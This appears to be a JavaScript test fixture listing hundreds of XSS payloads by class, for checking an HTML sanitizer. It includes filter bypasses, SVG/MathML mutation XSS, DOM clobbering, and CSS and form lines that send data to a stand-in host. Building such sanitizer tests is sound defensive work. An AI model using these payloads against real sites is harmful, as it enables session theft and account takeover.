// Hostile HTML by class. Each runs `x()` somewhere, or names, styles or embeds something, unless it is made harmless.

const script = [
  ..."<script>x()</script>|<SCRIPT>x()</SCRIPT>|<script src=//e.example/x.js></script>|<script/x>x()</script>".split(
    "|",
  ),
  ..."<scr<script>ipt>x()</scr</script>ipt>|<<script>x()//<</script>|<script\n>x()</script\n>|<script\t>x()</script >".split(
    "|",
  ),
  ...`<script type="text/javascript">x()</script>|<script type=module>x()</script>|<script async src="/x.js"></script>`.split(
    "|",
  ),
  ..."<script><!--\nx()//--></script>|<script>x()</script foo>|<script>x()</script/>|<script>x()|</script><script>x()</script>".split(
    "|",
  ),
  ..."<p><script>x()</script></p>|<b><script>x()</b></script>|<script><script>x()</script></script>|<a><script>x()</a>".split(
    "|",
  ),
  ..."<noscript><script>x()</script></noscript>|<style><script>x()</script></style>|<title><script>x()</script></title>".split(
    "|",
  ),
  ..."<textarea><script>x()</script></textarea>|<select><script>x()</script></select>|<table><script>x()</script></table>".split(
    "|",
  ),
  ..."<xmp><script>x()</script></xmp>|<iframe><script>x()</script></iframe>|<template><script>x()</script></template>".split(
    "|",
  ),
  ..."&lt;script&gt;x()&lt;/script&gt;|<\0script>x()</script>|<s\0cript>x()</s\0cript>|<script\0>x()</script>|<ſcript>x()</ſcript>".split(
    "|",
  ),
]

const handlerNames =
  "onclick onerror onload onfocus onmouseover onanimationstart ontoggle onpointerenter onbeforeinput onwheel oncopy onauxclick".split(
    " ",
  )
const handlers = [
  ...handlerNames.map((name) => `<p ${name}="x()">a</p>`),
  ...handlerNames.map((name) => `<img src="/a.png" ${name.toUpperCase()}=x()>`),
  ..."<img src=x onerror=x()>|<img/src=x/onerror=x()>|<img src='x'onerror=x()>|<img src=x onerror\n=\nx()>".split(
    "|",
  ),
  ...'<img """><img onerror=x() src=x>|<a href="/" onclick = "x()">a</a>|<p/onclick=x()>a|<p\tonclick=x()>a|<p\fonclick=x()>a'.split(
    "|",
  ),
  ..."<img src=`x`onerror=x()>|<img alt='\" onerror=x() \"' src=/a>|<details open ontoggle=x()>|<video onloadstart=x() src=/a>".split(
    "|",
  ),
  ..."<body onload=x()>|<input autofocus onfocus=x()>|<marquee onstart=x()>|<audio src onerror=x()>|<th onclick=x()>".split(
    "|",
  ),
]

const spellings = [
  "javascript:x()",
  "JaVaScRiPt:x()",
  " javascript:x()",
  "java\tscript:x()",
  "java\nscript:x()",
  "java\r\nscript:x()",
  "java\0script:x()",
  "\u0001javascript:x()",
  "\u001fjavascript:x()",
  "\u00a0javascript:x()",
  "\u2028javascript:x()",
  "javascript\t:x()",
  "javascript&colon;x()",
  "&#106;avascript:x()",
  "&#x6A;avascript:x()",
  "&#0000106avascript:x()",
  "java&Tab;script:x()",
  "java&NewLine;script:x()",
  "java&#x09;script:x()",
  "javascript://example.com/%0ax()",
  "data:text/html,<script>x()</script>",
  "data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=",
  "DATA:image/svg+xml,<svg onload=x()>",
  "vbscript:x()",
  "livescript:x()",
  "feed:javascript:x()",
  "view-source:javascript:x()",
  "blob:https://e.example/1",
  "filesystem:https://e.example/1",
  "file:///etc/passwd",
  "//e.example/x",
  "/\\e.example/x",
  "\\\\e.example\\x",
  "/\t/e.example/x",
]
const schemes = spellings.flatMap((address) => [
  `<a href="${address}">a</a>`,
  `<img src="${address}" alt="a">`,
])

const svg = [
  ..."<svg onload=x()>|<svg><script>x()</script></svg>|<svg><script href=data:,x()></script>|<svg/onload=x()>".split(
    "|",
  ),
  ..."<svg><animate onbegin=x() attributeName=x dur=1s>|<svg><set attributeName=href to=javascript:x()>|<svg><a xlink:href=javascript:x()>a</a>".split(
    "|",
  ),
  ...`<svg><use href="data:image/svg+xml,<svg id='x' onload='x()'/>#x">|<svg><image href=x onerror=x()>|<svg><foreignObject><img src=x onerror=x()>`.split(
    "|",
  ),
  ..."<svg><style><img src=x onerror=x()></style>|<svg><title><img src=x onerror=x()></title>|<svg><desc><script>x()</script></desc>".split(
    "|",
  ),
  ..."<svg><p><style><a id='</style><img src=x onerror=x()>'>|<svg></p><style><a id='</style><img src=x onerror=x()>'>|<svg><br><img src=x onerror=x()>".split(
    "|",
  ),
  ..."<svg><![CDATA[<img src=x onerror=x()>]]></svg>|<svg><![CDATA[]]><script>x()</script>|<svg><!--<img src=x onerror=x()>-->|<svg><textarea><img src=x onerror=x()>".split(
    "|",
  ),
  ..."<svg><a><animate attributeName=href values=javascript:x() /><text>a</text></a>|<svg><handler type=text/javascript>x()</handler>|<svg:script>x()</svg:script>".split(
    "|",
  ),
  ..."<svg><filter><feImage href=javascript:x() /></filter>|<svg><mask onload=x()>|<svg><discard onbegin=x()>|<svg><switch><a href=javascript:x()>a".split(
    "|",
  ),
  ..."<img src='/a.svg' onload=x()>|<object data=/a.svg></object>|<embed src=/a.svg>|<iframe src=/a.svg></iframe>|<svg".split(
    "|",
  ),
]

const math = [
  ..."<math><script>x()</script></math>|<math href=javascript:x()>a</math>|<math><mi//xlink:href=javascript:x()>a|<math xlink:href=javascript:x()>a".split(
    "|",
  ),
  ..."<math><mtext><table><mglyph><style><img src=x onerror=x()>|<math><mtext><img src=x onerror=x()></mtext></math>|<math><annotation-xml encoding=text/html><script>x()</script>".split(
    "|",
  ),
  ..."<math><annotation-xml><svg onload=x()>|<math><maction actiontype=statusline xlink:href=javascript:x()>a|<math><style><img src=x onerror=x()></style>".split(
    "|",
  ),
  ..."<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=x()>|<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x()&gt;'>".split(
    "|",
  ),
  ..."<math><mi><p onclick=x()>|<math><mo><a href=javascript:x()>|<math><mn><img src=x onerror=x()>|<math><ms><script>x()|<math><semantics><svg onload=x()>".split(
    "|",
  ),
  ..."<math><a href=javascript:x()>a</a>|<math><p><img src=x onerror=x()>|<math><br><style><img src=x onerror=x()>|<math></p><style><!--</style><img src=x onerror=x()>-->".split(
    "|",
  ),
  ..."<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src onerror=x()>'>|<math><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=x() src=1>'>".split(
    "|",
  ),
  ..."<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=x()>'></style></h1>|<math><img src=x onerror=x()></math>".split(
    "|",
  ),
  ..."<math><maligngroup><malignmark><img src=x onerror=x()>|<math><mstyle onclick=x()>|<math><mspace onmouseover=x()>|<math><![CDATA[<script>x()</script>]]>|<math".split(
    "|",
  ),
]

const raw = "style noscript template textarea title xmp noembed noframes iframe plaintext".split(" ")
const mutation = [
  ...raw.map((tag) => `<${tag}><a title="</${tag}><img src=x onerror=x()>">`),
  ...raw.map((tag) => `<p><${tag}><!--</${tag}><img src=x onerror=x()>--></p>`),
  ...raw.map((tag) => `<${tag}>&lt;/${tag}&gt;<img src=x onerror=x()></${tag}/>`),
  ..."<a><table><a href=javascript:x()>|<table><a><table><img src=x onerror=x()>|<p><table><p onclick=x()>|<a href='/\"><img src=x onerror=x()>'>".split(
    "|",
  ),
  ...'<img alt="``onerror=x()" src="/a">|<p title="`"><p onclick=x() title="`">|<listing>&lt;img src=x onerror=x()&gt;</listing>'.split(
    "|",
  ),
  ..."<select><template><img src=x onerror=x()>|<form><form><img src=x onerror=x()>|<button><p><button><img src=x onerror=x()>|<ruby><rt><img src=x onerror=x()>".split(
    "|",
  ),
]

const whole = `<p class=a onclick="x()"><a href="javascript:x()">a</a><img src=x onerror=x()></p><script>x()</script><svg onload=x()>`
const truncated = [
  ...Array.from({ length: 32 }, (_, n) => whole.slice(0, n * 3 + 2)),
  ..."<|</|<!|<?|<p|<p |<p a|<p a=|<p a='|<p a=\"|</p|<!--|<!-- <img src=x onerror=x()>|<!--><img src=x onerror=x()>|<![CDATA[|<!doctype".split(
    "|",
  ),
  ..."--!><img src=x onerror=x()>|<?xml <img src=x onerror=x()> ?>|<% <img src=x onerror=x()> %>|</ p><img src=x onerror=x()>|<!-><img src=x onerror=x()>".split(
    "|",
  ),
]

const globals =
  "document window location body cookie forms images getElementById querySelector createElement __proto__ constructor prototype parent top self name toString attributes innerHTML section-results".split(
    " ",
  )
const clobbering = globals.flatMap((name) => [
  `<p id="${name}">a</p>`,
  `<img name="${name}" src="/a">`,
  `<a id=${name} name=${name} href="/a">a</a>`,
])

const css = [
  ...[
    "expression(x())",
    "background:url(javascript:x())",
    "@import '//e.example/x.css'",
    "behavior:url(x.htc)",
    "-moz-binding:url(x)",
  ].flatMap((rule) => [
    `<p style="${rule}">a</p>`,
    `<style>p{${rule}}</style>`,
    `<p STYLE='${rule}'>a</p>`,
    `<div style=${rule}>a</div>`,
  ]),
  ..."<link rel=stylesheet href=//e.example/x.css>|<style>@import '//e.example/x.css'</style>|<p style='position:fixed;inset:0'>a</p>|<style>*{display:none}</style>".split(
    "|",
  ),
  ..."<p class='fixed inset-0'>a</p>|<table background=javascript:x()>|<td background='//e.example/x'>|<font color=red onclick=x()>|<p align=center>|<style>a[href^=a]{background:url(//e.example/a)}".split(
    "|",
  ),
]

const embedding = [
  ..."<meta http-equiv=refresh content='0;url=javascript:x()'>|<meta charset=utf-7>|<base href=//e.example/>|<base target=_blank>|<link rel=import href=/x>|<link rel=prefetch href=//e.example>".split(
    "|",
  ),
  ..."<form action=javascript:x()><button>a</button></form>|<form action=//e.example><input name=password></form>|<button formaction=javascript:x()>a</button>|<input type=image src=x onerror=x()>".split(
    "|",
  ),
  ..."<iframe src=javascript:x()></iframe>|<iframe srcdoc='<script>x()</script>'></iframe>|<iframe/src=data:text/html,x></iframe>|<frameset><frame src=javascript:x()></frameset>|<frame src=//e.example>".split(
    "|",
  ),
  ..."<object data=javascript:x()></object>|<object data=data:text/html,x></object>|<embed src=javascript:x()>|<embed code=x.swf>|<applet code=x></applet>|<portal src=//e.example></portal>".split(
    "|",
  ),
  ..."<video><source onerror=x()></video>|<video poster=javascript:x()></video>|<audio src=javascript:x()></audio>|<picture><source srcset=x onerror=x()></picture>|<track src=//e.example>".split(
    "|",
  ),
  ..."<isindex action=javascript:x()>|<keygen autofocus onfocus=x()>|<bgsound src=javascript:x()>|<layer src=x.js></layer>|<xss onclick=x()>a</xss>|<html onload=x()>|<body background=javascript:x()>|<dialog open>a</dialog>".split(
    "|",
  ),
  ..."<img srcset='x 1x' onerror=x()>|<img src=/a usemap=#m><map name=m><area href=javascript:x()></map>|<a href=/ ping=//e.example>a</a>|<a href=/ download target=evil>a</a>|<slot name=x>|<custom-el is=x>".split(
    "|",
  ),
]

export const payloads = {
  "script tags": script,
  "event handlers": handlers,
  "address schemes": schemes,
  SVG: svg,
  MathML: math,
  mutation: mutation,
  "unclosed and truncated tags": truncated,
  "names that shadow": clobbering,
  CSS: css,
  embedding: embedding,
}
